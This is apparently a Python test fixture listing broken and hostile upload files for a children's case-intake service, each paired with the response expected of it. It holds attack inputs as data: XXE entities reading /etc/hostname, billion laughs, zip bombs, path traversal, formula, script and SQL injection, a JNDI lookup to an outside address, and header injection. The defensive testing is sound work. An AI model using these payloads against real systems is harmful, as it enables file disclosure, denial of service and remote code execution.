"""What a broken or hostile file of cases may be, by name, each with what has to become of it by every way in.

Everything is invented.
"""

import csv
import functools
import io
import json
import zipfile
from collections.abc import Callable, Mapping, Sequence
from typing import Any

import openpyxl

from tests.hostile_sample import Hostile, Invented, made

CSV, JSON, XML = "text/csv", "application/json", "application/xml"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
AREA = "oxfordshire"
_SHEET = "xl/worksheets/sheet1.xml"
_MEBIBYTE = 1024 * 1024
Body = bytes | Callable[[int], bytes]


def case(serial: int, **parts: Any) -> dict[str, Any]:
    """One event of one child's case; a part that is None is left out."""
    who = Invented(serial)
    whole = {
        "area": AREA,
        "reference": f"OX-{serial}",
        "event": "REFERRED",
        "event_at": "2026-03-10",
        "family_name": who.surname,
        "given_names": who.given,
        "date_of_birth": who.born,
        "date_of_death": "2026-03-09",
        "postcode": who.postcode,
    }
    return {name: value for name, value in (whole | parts).items() if value is not None}


def _csv(*, delimiter: str = ",", charset: str = "utf-8", rows: int = 1, **parts: Any) -> Callable[[int], bytes]:
    def body(serial: int) -> bytes:
        out = io.StringIO()
        told = [case(serial, **parts) | {"reference": f"OX-{serial}-{each}"} for each in range(rows)]
        writer = csv.DictWriter(out, list(told[0]), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(told)
        return out.getvalue().encode(charset)

    return body


def _lines(*lines: str) -> Callable[[int], bytes]:
    """A CSV written by hand; ``{serial}`` is the number, ``{name}`` a name."""
    said = "\r\n".join(lines)
    return lambda serial: said.replace("{serial}", str(serial)).replace("{name}", Invented(serial).surname).encode()


def _json(**parts: Any) -> Callable[[int], bytes]:
    return lambda serial: json.dumps([case(serial, **parts)]).encode()


def _xml(before: str = "", inside: str = "", name: str = "", **parts: Any) -> Callable[[int], bytes]:
    def body(serial: int) -> bytes:
        told = case(serial, **parts)
        cells = "".join(f"<{column}>{value}</{column}>" for column, value in told.items())
        if name:
            cells = cells.replace(Invented(serial).surname, name)
        return f"{before}<cases><case>{cells}{inside}</case></cases>".encode()

    return body


def _book(change: Callable[[Any, Any], None] | None = None, **parts: Any) -> Callable[[int], bytes]:
    """A workbook of one case, changed in some way before it is written (the book, its sheet)."""

    def body(serial: int) -> bytes:
        book = openpyxl.Workbook()
        sheet: Any = book.active
        told = case(serial, **parts)
        sheet.append(list(told))
        sheet.append(list(told.values()))
        if change:
            change(book, sheet)
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    return body


def _archive(change: Callable[[dict[str, bytes]], None]) -> Callable[[int], bytes]:
    """That workbook with some of its members changed."""

    def body(serial: int) -> bytes:
        with zipfile.ZipFile(io.BytesIO(_book()(serial))) as good:
            members = {name: good.read(name) for name in good.namelist()}
        change(members)
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bad:
            for name, content in members.items():
                bad.writestr(name, content)
        return out.getvalue()

    return body


def _once(body: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """What takes long to make, and is refused whatever it says of whom: made once."""
    made_once = functools.cache(lambda: body(0))
    return lambda _: made_once()


def _cell(value: str, column: str = "E") -> Callable[[Any, Any], None]:
    def change(_: Any, sheet: Any) -> None:
        sheet[f"{column}2"] = value

    return change


def _put(name: str, content: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda members: members.update({name: content})


def _blown_up(name: str, mebibytes: int, start: bytes = b"") -> Callable[[dict[str, bytes]], None]:
    """A member of next to nothing that unpacks to so much."""
    return lambda members: members.update({name: start + b" " * (mebibytes * _MEBIBYTE)})


def _in_sheet(old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda members: members.update({_SHEET: members[_SHEET].replace(old, new, 1)})


def _without(name: str) -> Callable[[dict[str, bytes]], None]:
    def change(members: dict[str, bytes]) -> None:
        del members[name]

    return change


def _other_sheet_first(book: Any, sheet: Any) -> None:
    book.create_sheet("Notes", 0).append(["read me first"])
    book.active = 1


def _taken(body: Body, form: str = CSV) -> Hostile:
    return Hostile(made(body), form, "taken")


def _passed(body: Body, form: str = CSV) -> Hostile:
    return Hostile(made(body), form, "passed-over")


def _wrong(body: Body, form: str = CSV) -> Hostile:
    return Hostile(made(body), form, "refused", 422)


def _forms(forms: Sequence[tuple[str, Body]], hostile: Callable[..., Hostile], name: str) -> dict[str, Hostile]:
    """The same in several forms."""
    return {f"{name}, as {form.rpartition('/')[2][-5:]}": hostile(body, form) for form, body in forms}


_TEXTS: Mapping[str, Hostile] = {
    "nothing": _wrong(b""),
    "white space": _wrong(b" \r\n\t"),
    "words": _wrong(b"a child has died, ring us"),
    "every byte there is": _wrong(bytes(range(256)) * 4),
    "a zero in a cell": _wrong(_csv(given_names="Wr\0en")),
    "compressed": _wrong(b"\x1f\x8b\x08\x00\x00\x00\x00\x00"),
    "headings alone": _wrong(_lines("area,reference,event")),
    "other headings": _wrong(_lines("a,b", "1,2")),
    "headings twice": _wrong(_lines("area,reference,event,surname,surname", "oxfordshire,OX-{serial},REFERRED,{name},OTHER")),
    "a quote without end": _wrong(_lines("area,reference,event,surname", 'oxfordshire,OX-{serial},REFERRED,"{name}')),
    "a row that is long": _wrong(_lines("area,reference,event", "oxfordshire,OX-{serial},REFERRED,x,y")),
    "a cell of many letters": _wrong(_csv(narrative="A" * 200_000)),
    "more columns than a table has": _wrong(_lines("area,reference,event," + "x," * 600, "oxfordshire,OX-{serial},REFERRED")),
    "more rows than a table has": _wrong(_lines("area,reference,event", *["oxfordshire,OX-{serial},REFERRED"] * 50_001)),
    "more than a file may hold": Hostile(_csv(notes="x" * 90_000, rows=100), CSV, "refused", 413),
    "semicolons": _taken(_csv(delimiter=";")),
    "tabs": _taken(_csv(delimiter="\t")),
    "sixteen bits a character": _taken(_csv(charset="utf-16")),
    "Windows-1252": _taken(_csv(family_name="S\xd6DER", charset="cp1252")),
    "a byte order mark": _taken(_csv(charset="utf-8-sig")),
    "a narrative of lines": _taken(_csv(narrative="One.\r\n\r\n\"Two\", three;\tfour")),
    "a delimiter that is said": _taken(
        _lines("sep=;", "area;reference;event;surname", "oxfordshire;OX-{serial};REFERRED;{name}")
    ),
}  # fmt: skip

_WORKBOOKS: Mapping[str, Hostile] = {
    "an archive that is none": _wrong(b"PK\x03\x04 no workbook", XLSX),
    "an archive that is cut": _wrong(lambda serial: _book()(serial)[:-200], XLSX),
    "an archive of something else": _wrong(_archive(_without("xl/workbook.xml")), XLSX),
    "an old workbook": _wrong(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), XLSX),
    "a bomb in a sheet": _wrong(_once(_archive(_blown_up(_SHEET, 120, b"<worksheet>"))), XLSX),
    "a bomb beside the sheets": _wrong(_once(_archive(_blown_up("xl/media/a.bin", 160))), XLSX),
    "a bomb of cells": _wrong(
        _once(_archive(_in_sheet(b"<row", b"<row><c/>" + b"<c/>" * 300_000 + b"</row><row"))), XLSX
    ),
    "a bomb of members": _wrong(
        _once(_archive(lambda members: members.update({f"x/{n}": b"" for n in range(3000)}))), XLSX
    ),
    "an entity in a sheet": _wrong(
        _archive(_in_sheet(b"<worksheet", b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]><worksheet')), XLSX
    ),
    "no sheet": _wrong(_archive(_without(_SHEET)), XLSX),
    "a sheet that is cut": _taken(_archive(lambda members: members.update({_SHEET: members[_SHEET][:-60]})), XLSX),
    "a path that climbs out": _taken(_archive(_put("../../../tmp/climbed-out", b"x")), XLSX),
    "macros": _taken(_archive(_put("xl/vbaProject.bin", b"Sub Auto_Open()" * 100)), XLSX),
    "the cases on the second sheet": _wrong(_book(_other_sheet_first), XLSX),
    "a formula that nobody reckoned": _wrong(_book(_cell('=HYPERLINK("http://x.invalid")', "B")), XLSX),
    "a name that is an error": _wrong(_book(_cell("#REF!")), XLSX),
    "a reference that became a day": _wrong(_book(reference="2026-03-01"), XLSX),
    "a row at the end of the sheet": _taken(_book(lambda _, sheet: sheet.cell(1_048_576, 1, "x")), XLSX),
}

_OBJECTS: Mapping[str, Hostile] = {
    "half a list": _wrong(lambda serial: _json()(serial)[:-20], JSON),
    "null": _wrong(b"null", JSON),
    "a list of nothing": _wrong(b"[]", JSON),
    "a list of numbers": _wrong(b"[1, 2]", JSON),
    "a name twice": _wrong(lambda serial: _json()(serial).replace(b'"area"', b'"event": "x", "area"', 1), JSON),
    "no number": _wrong(lambda serial: _json()(serial).replace(b'"REFERRED"', b"NaN"), JSON),
    "half a character": _wrong(lambda serial: _json()(serial).replace(b"quill", b"\\ud800"), JSON),
    "brackets without end": _wrong(b"[" * 100_000, JSON),
    "lists within lists": _wrong(_json(reference=["a", "b"]), JSON),
    "XML that is cut": _wrong(lambda serial: _xml()(serial)[:-12], XML),
    "a document type": _wrong(_xml("<!DOCTYPE cases>"), XML),
    "a file for an entity": _wrong(_xml('<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/hostname">]>', name="&x;"), XML),
    "a billion laughs": _wrong(
        _xml('<!DOCTYPE c [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY d "&b;&b;&b;&b;">]>', name="&d;"), XML
    ),
    "an inclusion": _wrong(
        _xml(
            inside='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"><a/></xi:include>'
        ),
        XML,
    ),
    "a lie about its bytes": _wrong(_xml('<?xml version="1.0" encoding="UTF-16"?>'), XML),
    "elements without end": _wrong(b"<cases>" * 50_000, XML),
    "an element twice": _wrong(_xml(inside="<event>WITHDRAWN</event>"), XML),
    "an instruction": _taken(_xml('<?xml-stylesheet href="http://x.invalid/a.xsl"?>'), XML),
    "a web page": _wrong(b"<html><body>Sign in</body></html>", XML),
}

_CONTENT: Mapping[str, Hostile] = {
    "a scanned form": Hostile(made(b"%PDF-1.4"), "application/pdf", "refused", 415),
    "no type": Hostile(_csv(), "", "refused", 415, frozenset({"http"})),
    "another area's case": Hostile(_csv(area="berkshire"), CSV, "refused", 403),
    "an area in another spelling": _taken(_csv(area="oxfordshire.#")),
    "an event that nobody knows": _wrong(_csv(event="ARRIVED")),
    "a birthday of two digits": _wrong(_csv(date_of_birth="09/05/14")),
    "a day that is none": _wrong(_csv(date_of_death="2026-02-30")),
    "a death to come": _wrong(_csv(date_of_death="2126-03-09")),
    "an adult": _passed(_csv(date_of_birth="1950-01-01")),
    **_forms(
        [(CSV, _csv(family_name="=HYPERLINK(1)")), (XLSX, _book(family_name="'=HYPERLINK(1)")),
         (JSON, _json(family_name="=HYPERLINK(1)")), (XML, _xml(family_name="=HYPERLINK(1)"))],
        _taken, "a name that is a formula",
    ),
    **_forms(
        [(CSV, _csv(family_name="<script>alert(1)</script>")), (JSON, _json(family_name="<script>alert(1)</script>")),
         (XML, _xml(name="&lt;script&gt;alert(1)&lt;/script&gt;"))],
        _taken, "a name that is a program",
    ),
    "a name that is a statement": _taken(_csv(family_name="'); DROP TABLE notice;--")),
    "a name that is a lookup": _taken(_csv(family_name="${jndi:ldap://192.0.2.1/a}")),
    "a name that breaks lines": _taken(_csv(family_name="A\r\nX-Injected: 1\r\n\r\nB")),
    "a name that turns the text around": _taken(_csv(family_name="\u202eneRW\u2066")),
}  # fmt: skip

HOSTILE: Mapping[str, Hostile] = {**_TEXTS, **_WORKBOOKS, **_OBJECTS, **_CONTENT}
